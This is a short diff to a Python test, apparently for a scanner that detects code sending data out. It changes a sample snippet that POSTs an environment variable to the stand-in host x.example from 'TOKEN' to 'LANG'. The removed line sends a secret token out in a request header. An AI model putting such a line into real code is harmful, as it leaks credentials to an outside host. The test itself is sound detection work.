@@ -709,7 +709,7 @@ def test_all_variables_are_sent():
 
 
 def test_one_variable_is_no_secret():
-    found = _scan("import os, requests; requests.post('https://x.example', headers={'a': os.environ['TOKEN']})")
+    found = _scan("import os, requests; requests.post('https://x.example', headers={'a': os.environ['LANG']})")
     assert found.effects == [("send", "https://x.example", False, NO_LABELS, "POST")]
 
 
